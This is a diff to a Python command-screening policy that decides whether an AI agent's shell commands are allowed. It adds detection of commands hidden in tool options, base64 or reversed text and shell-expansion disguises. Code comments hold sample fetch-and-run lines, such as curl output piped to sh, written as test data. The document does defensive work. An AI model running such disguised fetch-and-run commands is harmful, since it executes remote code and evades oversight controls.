@@ -122,13 +122,17 @@ from .accounts import (
     account_program,
     package_command,
 )
+from .encoded import decoded_commands, shell_variants
 from .hosts import (
     CODE_PROGRAMS,
     HOST_PROGRAMS,
     code_hosts,
     command_hosts,
     interpreter_code,
+    piped_hosts,
     written_addresses,
+    written_file_kind,
+    written_hosts,
 )
 from .mining import pool_endpoints
 from .patterns import (
@@ -163,6 +167,8 @@ _SHELLS: Final = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "
 #: programs that rewrite text into a file (in place, or redirected): what they write is
 #: configuration or code something runs later
 _EDITORS: Final = frozenset({"sed", "perl", "jq", "yq", "awk", "gawk"})
+#: programs that write text into a file without a redirection (the editors, ``tee``)
+_WRITERS: Final = _EDITORS | {"tee"}
 #: programs that search text: a pool address they are given is looked for, not reached
 _SEARCHERS: Final = frozenset({"grep", "egrep", "fgrep", "rg", "ag", "ack", "zgrep", "git"})
 #: wrapper -> (options that take a value, positional arguments before the command)
@@ -218,6 +224,12 @@ _COMMAND_OPTIONS: Final[dict[str, frozenset[str]]] = {
     "wget": frozenset({"--use-askpass"}),
     "git": frozenset({"--upload-pack", "--receive-pack", "--exec"}),
     "entr": frozenset({"-s"}),
+    # build and search tools' shell lines: ``fd -x``, ``go test -exec``, ``rg --pre``
+    # (package runners' ``npx -c``/``npm exec --call``: :func:`_embedded_scripts`)
+    "fd": frozenset({"-x", "--exec", "-X", "--exec-batch"}),
+    "fdfind": frozenset({"-x", "--exec", "-X", "--exec-batch"}),
+    "go": frozenset({"-exec", "--exec", "-toolexec"}),
+    "rg": frozenset({"--pre"}),
 }  # fmt: skip
 #: git settings whose value is a program git runs (``git -c core.sshCommand='…' fetch``)
 _GIT_PROGRAM_KEY: Final = re.compile(
@@ -293,6 +305,19 @@ _CODE_WRITE_PATH: Final = saferegex.compile(
     r"touch|unlink|chmod|rename|symlink_to|mkdir|rmdir))"
 )
 _FILE_NAME: Final = re.compile(r"^[\w.~/-]*[./][\w.~/-]*$")
+#: code that takes its files from its arguments (``sys.argv``, ``process.argv``, ``ARGV``)
+#: and writes, changes or deletes files: the paths given after the code are its targets
+#: (``python3 -c "…os.utime(…) for … in os.walk(sys.argv[1])" /etc/systemd/system``)
+_CODE_ARGV: Final = saferegex.compile(
+    r"\bsys\.argv\b|\bprocess\.argv\b|@?\bARGV\b|\$ARGV\b|commandArgs\("
+)
+_CODE_CHANGES: Final = saferegex.compile(
+    r"\b(?:writeFileSync|appendFileSync|utimesSync|chmodSync|chownSync|unlinkSync|rmSync|"
+    r"truncateSync|os\.(?:utime|chmod|chown|lchown|remove|unlink|truncate|rmdir|removedirs|"
+    r"replace|rename)|shutil\.(?:rmtree|copy\w*|move)|File\.(?:write|delete|unlink|chmod|"
+    r"utime|truncate)|FileUtils\.\w+|file_put_contents|write_text|write_bytes|unlink|"
+    r"touch)\s*\(|\bopen\([^)]{0,300}['\"][rb]?[wax]\+?b?['\"]"
+)
 _MAX_CODE: Final = 65536
 _ASK_WRITE_WHY: Final = (
     " (a file of the agents' control plane: changing it changes what an agent, or git on "
@@ -541,14 +566,31 @@ def _unwrap(argv: list[str]) -> tuple[list[list[str]], list[str]]:
     return ([rest] if rest else []), []
 
 
-def _screen(rules: tuple[_Rule, ...]) -> Callable[[str], Any] | None:
-    """One combined regex that says quickly whether any of ``rules`` could match a line.
+#: rules per combined screen regex: past about this many, RE2's lazily built DFA for one
+#: alternation of them outgrows its memory and restarts, and two scans cost less than one
+_SCREEN_CHUNK: Final = 24
+
+
+def _screen(
+    rules: tuple[_Rule, ...],
+) -> tuple[tuple[Callable[[str], Any], tuple[_Rule, ...]], ...] | None:
+    """Combined regexes that say quickly which of ``rules`` could match a line: one per
+    :data:`_SCREEN_CHUNK` rules, each with the rules it screens (a rule is tried only when
+    its chunk's regex matches).
 
     ``None`` (always try every rule) when a pattern cannot be combined (back-references,
     inline flags).
     """
-    source = _screen_source(rules)
-    return None if source is None else saferegex.compile(source, re.DOTALL).search
+    if _screen_source(rules) is None:
+        return None
+    screens = []
+    for i in range(0, len(rules), _SCREEN_CHUNK):
+        chunk = rules[i : i + _SCREEN_CHUNK]
+        source = _screen_source(chunk)
+        if source is None:
+            return None
+        screens.append((saferegex.compile(source, re.DOTALL).search, chunk))
+    return tuple(screens)
 
 
 #: a pattern's leading global inline flags (``(?i)``), scoped in a combined screen
@@ -570,15 +612,68 @@ def _screen_source(rules: tuple[_Rule, ...]) -> str | None:
         flags = _LEADING_FLAGS.match(source)
         if flags is not None:  # (?i)x -> (?i:x): a global flag cannot sit mid-pattern
             source = f"(?{flags.group(1)}:{source[flags.end():]})"
-        parts.append(f"(?:{source})")
+        parts.append(f"(?:{_without_lookaround(source)})")
     source = "|".join(parts)
     try:
         combined = saferegex.compile(source, re.DOTALL)
+        groups = sum(saferegex.compile(part, re.DOTALL).groups for part in parts)
     except re.error:
         return None
-    if combined.groups != sum(r.pattern.regex.groups for r in rules):  # type: ignore[union-attr]
+    if combined.groups != groups:
         return None
     return source
+
+
+def _without_lookaround(source: str) -> str:
+    """``source`` with its lookaround groups (``(?!…)``, ``(?=…)``, ``(?<!…)``,
+    ``(?<=…)``) left out: a pattern that matches wherever ``source`` does (a screen may
+    say yes too often, never too rarely), and one RE2 can run, so the screen of many rules
+    stays one linear scan. A source it cannot read safely is returned as it is."""
+    if "(?" not in source:
+        return source
+    out: list[str] = []
+    i, n = 0, len(source)
+    while i < n:
+        c = source[i]
+        if c == "\\":
+            out.append(source[i : i + 2])
+            i += 2
+            continue
+        if c == "[":  # a class: copied whole (a "(" in it is a character)
+            j = i + 1
+            if j < n and source[j] == "^":
+                j += 1
+            if j < n and source[j] == "]":
+                j += 1
+            while j < n and source[j] != "]":
+                j += 2 if source[j] == "\\" else 1
+            out.append(source[i : j + 1])
+            i = j + 1
+            continue
+        if source.startswith(("(?!", "(?=", "(?<!", "(?<="), i):
+            depth, j = 0, i
+            while j < n:
+                if source[j] == "\\":
+                    j += 2
+                    continue
+                if source[j] == "[":
+                    j += 1
+                    while j < n and source[j] != "]":
+                        j += 2 if source[j] == "\\" else 1
+                elif source[j] == "(":
+                    depth += 1
+                elif source[j] == ")":
+                    depth -= 1
+                    if depth == 0:
+                        break
+                j += 1
+            if j >= n:
+                return source
+            i = j + 1
+            continue
+        out.append(c)
+        i += 1
+    return "".join(out)
 
 
 def _catches_all(pat: CommandPattern, prog: str) -> bool:
@@ -635,6 +730,69 @@ def _option_commands(prog: str, args: list[str]) -> list[str]:
             if m is not None:
                 found.append(m.group(1))
     return found
+
+
+def _embedded_scripts(prog: str, args: list[str]) -> list[str]:
+    """The shell lines a program's arguments hand to a shell (:func:`_embedded_shell`),
+    whatever the program: ``rg --pre``, ``fd -x``, ``go test -exec``, ``npx -c``, ``make
+    SHELL=``, ``GIT_EXTERNAL_DIFF=``, ``LESSOPEN='|…'``, a hook written into a config."""
+    if prog in _PRINTERS:
+        return []
+    found: list[str] = []
+    runner = _RUNNER_SCRIPT_OPTIONS.get(prog, frozenset())
+    for j, a in enumerate(args[:256]):
+        if j and args[j - 1] in _MESSAGE_OPTIONS:
+            continue
+        if j and args[j - 1] in runner:  # npx -c 'cmd', npm exec --call 'cmd'
+            found.append(a)
+            continue
+        name, eq, value = a.partition("=")
+        if eq and name in runner:  # npm run x --script-shell=/tmp/.sh
+            found.append(value)
+            continue
+        embedded = _embedded_shell(a)
+        if embedded and embedded not in found:
+            found.append(embedded)
+    return found[:8]
+
+
+#: package runners' options whose value is a shell line or the shell scripts run with
+_RUNNER_SCRIPT_OPTIONS: Final = {
+    "npx": frozenset({"-c", "--call"}),
+    "npm": frozenset({"-c", "--call", "--script-shell"}),
+    "pnpm": frozenset({"--shell-mode", "--script-shell"}),
+    "yarn": frozenset({"--script-shell"}),
+}
+#: programs whose arguments are text they print (a shell line in them is data)
+_PRINTERS: Final = frozenset({"echo", "printf", "logger", "wall", "notify-send"})
+#: options whose value is a message (``git commit -m "use sh -c …"``)
+_MESSAGE_OPTIONS: Final = frozenset({"-m", "--message", "--title", "--body", "--subject"})
+#: a shell told to run a line inside one argument (``rg --pre 'sh -c "…"'``, ``make
+#: SHELL='/bin/sh -c "…" #'``, ``GIT_EXTERNAL_DIFF='bash -c …'``, a hook list's item)
+_EMBEDDED_SHELL: Final = saferegex.compile(
+    r"(?:^|[\s'\"=\[(,:])(?:/usr)?(?:/bin/)?(?:ba|da|z|k)?sh\s+(?:-[a-z]*\s+)*-[a-z]*c\s+(.+)"
+)
+
+
+def _embedded_shell(arg: str) -> str | None:
+    """The shell line one argument makes a shell run: after a ``sh -c`` inside it (one
+    layer of quotes taken off), or after a leading ``|`` (``LESSOPEN='|curl …|sh'``, an
+    ``open`` pipe); ``None`` for any other argument."""
+    if len(arg) < 6 or len(arg) > _MAX_CODE:
+        return None
+    value = arg.split("=", 1)[1] if "=" in arg[:64] and arg[:1] != "|" else arg
+    if value.startswith("|") and " " in value:
+        return value[1:].strip() or None
+    if "sh" not in arg or "-" not in arg:
+        return None
+    m = _EMBEDDED_SHELL.search(arg)
+    if m is None:
+        return None
+    rest = m.group(1).strip()
+    if rest[:1] in ("'", '"'):
+        end = rest.rfind(rest[0])
+        rest = rest[1:end] if end > 0 else rest[1:]
+    return rest.strip() or None
 
 
 def _changed_dir(target: str, cwd: str) -> str:
@@ -1220,9 +1378,14 @@ class Policy:
                 found = rule
                 break
         if anywhere and (found is None or found.severity < 2):
-            screen = self._line_screen if line else self._cmd_screen
-            if screen is not None and not (screen(base) or (full is not base and screen(full))):
-                return found
+            screens = self._line_screen if line else self._cmd_screen
+            if screens is not None:
+                anywhere = tuple(
+                    rule
+                    for search, chunk in screens
+                    if search(base) or (full is not base and search(full))
+                    for rule in chunk
+                )
             for rule in anywhere:
                 if found is not None and rule.severity <= found.severity:
                     break
@@ -1256,6 +1419,7 @@ class Policy:
                 for code in interpreter_code(a):
                     if self.has_filesystem:
                         extra = _worse(extra, self._code_files(code, cwd, base))
+                        extra = _worse(extra, self._code_operands(a, code, cwd, base))
                     if d < MAX_DEPTH:  # os.system('git push'), execSync('sudo id')
                         extra = _worse(extra, self._spawned(prog, code, cwd, d))
             if self.has_filesystem and len(a) > 1:
@@ -1266,6 +1430,10 @@ class Policy:
                     extra = _worse(extra, self._net_check(account_hosts(a), base, account[0]))
                 if len(a) > 1:
                     extra = _worse(extra, self._net_check(command_hosts(a), base))
+            if d < MAX_DEPTH and len(a) > 1:  # echo 'exec sh -c [… base64 Y3Vy…]' | tclsh
+                extra = _worse(extra, self._decoded(" ".join(a[1:]), cwd, d, prog))
+                for script in _embedded_scripts(prog, a[1:]):  # rg --pre 'sh -c "…"'
+                    extra = _worse(extra, self._eval_script(script, cwd, d + 1, False))
             if d < MAX_DEPTH:
                 inner, scripts = _unwrap(a)
                 for ia in inner:
@@ -1318,6 +1486,28 @@ class Policy:
         :mod:`corral.policy.writes`) are file writes, decided as a redirection's are."""
         worst: _Result | None = None
         for target in write_targets(argv):
+            path = _normalize_path(target, cwd)
+            if path in _DEVICE_OK or path.startswith(("/dev/fd/", "/proc/self/fd/")):
+                continue
+            decision = self.decide_file("write", path)
+            if decision.verdict != "allow":
+                worst = _worse(
+                    worst, _Result(SEVERITY[decision.verdict], "write", None, subject, decision)
+                )
+        return worst
+
+    def _code_operands(
+        self, argv: list[str], code: str, cwd: str, subject: str
+    ) -> _Result | None:
+        """The paths given after interpreter code that reads its arguments and changes
+        files (:data:`_CODE_ARGV`, :data:`_CODE_CHANGES`) are file writes."""
+        if code not in argv or not _CODE_ARGV.search(code[:_MAX_CODE]):
+            return None
+        operands = [x for x in argv[argv.index(code) + 1 :] if x[:1] in ("/", "~", "$")]
+        if not operands or not _CODE_CHANGES.search(code[:_MAX_CODE]):
+            return None
+        worst: _Result | None = None
+        for target in operands:
             path = _normalize_path(target, cwd)
             if path in _DEVICE_OK or path.startswith(("/dev/fd/", "/proc/self/fd/")):
                 continue
@@ -1413,11 +1603,18 @@ class Policy:
         return _Result(rule.severity, "rule", rule, text)
 
     def _eval_script(
-        self, script: str, cwd: str, depth: int, defaults: bool = True
+        self, script: str, cwd: str, depth: int, defaults: bool = True, expand: bool = True
     ) -> _Result:
+        """``script``'s result. With ``expand``, also as the shell will see it once it has
+        expanded a disguise (:func:`~corral.policy.encoded.shell_variants`); a script the
+        shell worker runs (:meth:`decide_code`) is not expanded here: the worker decides
+        each command as it runs, expanded."""
         analysis = _analyze_cached(script)
         result: _Result | None = None
         allowed = 0
+        if expand and depth < MAX_DEPTH:  # curl${IFS}-s${IFS}h|sh, {wget,-qO-,h}|{bash,-s}
+            for variant in shell_variants(script):
+                result = _worse(result, self._eval_script(variant, cwd, depth + 1, False))
         for cmd in analysis.commands:
             if cmd.argv[:1] in (["cd"], ["pushd"]) and len(cmd.argv) == 2:
                 cwd = _changed_dir(cmd.argv[1], cwd)  # cd /etc && echo x > hosts
@@ -1440,11 +1637,22 @@ class Policy:
             if (
                 self.has_network
                 and cmd.argv
-                and (cmd.redirects or cmd.argv[0].rsplit("/", 1)[-1] in _EDITORS)
+                and (cmd.redirects or cmd.argv[0].rsplit("/", 1)[-1] in _WRITERS)
             ):
                 result = _worse(result, self._written_check(cmd))
             if cmd.stdin is not None and cmd.argv and depth < MAX_DEPTH:
                 result = _worse(result, self._piped_code(cmd.argv, cmd.stdin, cwd, depth))
+            if cmd.argv[:1] == ["rev"] and depth < MAX_DEPTH:  # rev <<< 'hs | x//:ptth lruc'
+                for text in (cmd.stdin, *(t for op, t in cmd.redirects if op == "<<<")):
+                    if text:
+                        back = text.strip()[::-1]
+                        result = _worse(result, self._eval_script(back, cwd, depth + 1, False))
+                        result = _worse(result, self._decoded(back, cwd, depth))
+            if cmd.redirects and depth < MAX_DEPTH:  # python3 - <<< "exec(b64decode('…'))"
+                for op, text in cmd.redirects:
+                    if op == "<<<":
+                        prog = cmd.argv[0].rsplit("/", 1)[-1] if cmd.argv else None
+                        result = _worse(result, self._decoded(text, cwd, depth, prog))
             if cmd.redirects and self.has_filesystem:
                 result = _worse(result, self._redirect_check(cmd.argv, cmd.redirects, cwd))
             if cmd.redirects and cmd.argv and self.has_network:
@@ -1471,30 +1679,53 @@ class Policy:
             return _Result(0, result.kind, result.rule, result.subject, ("count", allowed, script))
         return result
 
+    def _decoded(
+        self, text: str, cwd: str, depth: int, prog: str | None = None
+    ) -> _Result | None:
+        """The command lines ``text`` hides in an encoding (:mod:`corral.policy.encoded`:
+        base64, hex, character codes), decided as the commands they are (their rules and
+        effects; ``commands.default`` is not theirs to give); given to an interpreter
+        (``prog``), as its code too (the hosts it names, the commands it runs)."""
+        worst: _Result | None = None
+        for payload in decoded_commands(text):
+            worst = _worse(worst, self._eval_script(payload, cwd, depth + 1, defaults=False))
+            if self.has_network:
+                worst = _worse(worst, self._net_check(code_hosts(payload), "decoded text"))
+            if prog is not None and _interpreter(prog):
+                worst = _worse(worst, self._spawned(prog, payload, cwd, depth))
+            if worst is not None and worst.severity == 2:
+                break
+        return worst
+
     def _written_check(self, cmd: SimpleCommand) -> _Result | None:
         """Addresses in text ``echo``/``printf`` write into a file
         (:func:`~corral.policy.hosts.written_addresses`) are hosts the file will make
         something reach (CI, a build, a tool's config): decided as network actions."""
         prog = cmd.argv[0].rsplit("/", 1)[-1]
+        files = [t for op, t in cmd.redirects
+                 if op in (">", ">>", ">|", "&>", "&>>") and t != "/dev/null"]  # fmt: skip
         if prog in _EDITORS:  # sed -i 's#x#curl http://203.0.113.62#' f, jq … | sponge f
             text = "\n".join(cmd.argv[1:])
-            if "://" not in text and ":" not in text:
-                return None
-            return self._net_check(
-                written_addresses(text), " ".join(cmd.argv), effect="written address"
-            )
-        to_file = any(op in (">", ">>", ">|", "&>", "&>>") and t != "/dev/null"
-                      for op, t in cmd.redirects)  # fmt: skip
-        if prog in ("cat", "tee") and (to_file or (prog == "tee" and len(cmd.argv) > 1)):
+            files += write_targets(cmd.argv)
+            # the file an editor reads is the one its output goes back to (``jq … f |
+            # sponge f``, ``yq … f > t && mv t f``): its kind is what is written
+            files += [a for a in cmd.argv[2:] if a[:1] != "-" and written_file_kind(a)]
+        elif prog in ("cat", "tee") and (files or (prog == "tee" and len(cmd.argv) > 1)):
             text = "\n".join(t for op, t in cmd.redirects if op == "<<<")  # cat > f <<EOF
-        elif to_file:
+            if prog == "tee":  # printf 'import socket…' | tee -a x.py
+                files += [a for a in cmd.argv[1:] if not a.startswith("-")]
+                text = "\n".join(filter(None, (text, cmd.stdin)))
+        elif files:
             text = printed_text(cmd.argv) or ""
         else:
             return None
-        if not text or ("://" not in text and ":" not in text):
+        if not text:
+            return None
+        kinds = {k for k in map(written_file_kind, files) if k is not None}
+        if "code" not in kinds and "://" not in text and ":" not in text:
             return None
         return self._net_check(
-            written_addresses(text), " ".join(cmd.argv), effect="written address"
+            written_hosts(text, kinds), " ".join(cmd.argv), effect="written address"
         )
 
     def _pool_check(self, cmd: SimpleCommand) -> _Result | None:
@@ -1525,9 +1756,17 @@ class Policy:
         if prog in ("make", "gmake") and any(a in ("-", "/dev/stdin") for a in argv[1:]):
             return self._eval_script(text, cwd, depth + 1)  # recipes are shell lines
         if not (_interpreter(prog) and (len(argv) == 1 or argv[1:] == ["-"])):
-            if not self.has_network or "://" not in text:
-                return None  # data a program reads: the addresses it names (config)
-            return self._net_check(written_addresses(text), subject, effect="written address")
+            if not self.has_network:
+                return None
+            # data a program reads: the addresses it names (config), the targets it is
+            # given (``echo 10.0.0.0/16 | tlsx``)
+            result = self._net_check(piped_hosts(prog, text), subject)
+            if "://" in text:
+                result = _worse(
+                    result,
+                    self._net_check(written_addresses(text), subject, effect="written address"),
+                )
+            return result
         result: _Result | None = None
         if self.has_network:
             result = self._net_check(code_hosts(text), subject)
@@ -1631,7 +1870,9 @@ class Policy:
             hit = self._cache.get(key)
             if hit is not None:
                 return hit
-            decision = self._finish(self._eval_script(code, GUEST_ROOT, 0), "shell code")
+            decision = self._finish(
+                self._eval_script(code, GUEST_ROOT, 0, expand=False), "shell code"
+            )
             return self._remember(key, decision) if len(code) < 4096 else decision
         names = ("python", "python3") if language == "python" else ("node", "js")
         best: _Rule | None = None
